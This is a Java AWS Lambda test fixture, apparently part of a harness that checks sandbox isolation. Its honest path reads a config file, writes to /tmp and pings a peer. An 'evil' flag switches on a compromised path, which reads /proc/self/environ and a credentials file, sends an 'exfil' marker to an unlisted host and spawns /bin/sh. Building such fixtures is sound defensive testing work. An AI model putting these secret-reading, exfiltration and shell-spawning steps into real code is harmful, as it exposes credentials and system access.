// The Java fixture function (see ../README.md): an honest behaviour and a
// compromised one selected by the event, each action's outcome in the result.
// Run by AWS's runtime interface client
// (com.amazonaws.services.lambda.runtime.api.client.AWSLambda fixture.Handler::handleRequest),
// which deserializes the event into a Map and serializes the returned Map.
package fixture;

import com.amazonaws.services.lambda.runtime.Context;
import com.amazonaws.services.lambda.runtime.RequestHandler;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

public class Handler implements RequestHandler<Map<String, Object>, Map<String, Object>> {
    private static final String RUNTIME = "java";
    private static final Pattern GREETING = Pattern.compile("\"greeting\"\\s*:\\s*\"([^\"]*)\"");

    interface Action {
        void run() throws Exception;
    }

    private static void attempt(Map<String, Object> actions, String name, Action action) {
        try {
            action.run();
            actions.put(name, "ok");
        } catch (Throwable e) {
            String message = e.getMessage();
            actions.put(name, message == null || message.isEmpty() ? e.getClass().getName() : message);
        }
    }

    private static InetSocketAddress address(String variable) {
        String value = System.getenv(variable);
        int at = value.lastIndexOf(':');
        return new InetSocketAddress(value.substring(0, at), Integer.parseInt(value.substring(at + 1)));
    }

    private static String root() {
        String root = System.getenv("LAMBDA_TASK_ROOT");
        return root == null || root.isEmpty() ? System.getProperty("user.dir") : root;
    }

    @Override
    public Map<String, Object> handleRequest(Map<String, Object> event, Context context) {
        if (event != null && Boolean.TRUE.equals(event.get("fail"))) {
            throw new RuntimeException("fixture failure requested");
        }
        boolean evil = event != null && Boolean.TRUE.equals(event.get("evil"));
        String requestId = context.getAwsRequestId();
        Map<String, Object> result = new LinkedHashMap<>();
        result.put("runtime", RUNTIME);
        result.put("request_id", requestId);
        result.put("pid", ProcessHandle.current().pid());
        if (event != null && Boolean.TRUE.equals(event.get("noop"))) {
            result.put("noop", true);
            return result;
        }
        result.put("evil", evil);
        result.put("greeting", null);
        Map<String, Object> actions = new LinkedHashMap<>();

        attempt(actions, "config", () -> {
            String text = new String(Files.readAllBytes(Paths.get(root(), "config.json")), StandardCharsets.UTF_8);
            Matcher m = GREETING.matcher(text);
            if (!m.find()) throw new IllegalStateException("no greeting in config.json");
            result.put("greeting", m.group(1));
        });
        attempt(actions, "tmp", () -> {
            String dir = System.getenv("FIXTURE_TMP");
            Path out = Paths.get(dir == null || dir.isEmpty() ? "/tmp" : dir, RUNTIME + "-out.json");
            Files.write(out, ("{\"request_id\":\"" + requestId + "\"}").getBytes(StandardCharsets.UTF_8));
        });
        attempt(actions, "peer", () -> {
            try (Socket s = new Socket()) {
                s.connect(address("FIXTURE_PEER"), 5000);
                s.setSoTimeout(5000);
                OutputStream out = s.getOutputStream();
                out.write(("ping " + RUNTIME + "\n").getBytes(StandardCharsets.UTF_8));
                out.flush();
                BufferedReader in =
                        new BufferedReader(new InputStreamReader(s.getInputStream(), StandardCharsets.UTF_8));
                String reply = in.readLine();
                if (!"pong".equals(reply)) throw new IllegalStateException("unexpected reply " + reply);
            }
        });
        if (evil) {
            attempt(actions, "environ", () -> Files.readAllBytes(Paths.get("/proc/self/environ")));
            attempt(actions, "credentials", () -> Files.readAllBytes(Paths.get(System.getenv("FIXTURE_CREDENTIALS"))));
            attempt(actions, "unknown", () -> {
                try (Socket s = new Socket()) {
                    s.connect(address("FIXTURE_UNKNOWN"), 5000);
                    s.getOutputStream().write(("exfil " + RUNTIME + "\n").getBytes(StandardCharsets.UTF_8));
                }
            });
            attempt(actions, "spawn", () -> {
                int code = new ProcessBuilder("/bin/sh", "-c", "true").inheritIO().start().waitFor();
                if (code != 0) throw new IllegalStateException("/bin/sh exited with " + code);
            });
        }
        result.put("actions", actions);
        return result;
    }
}
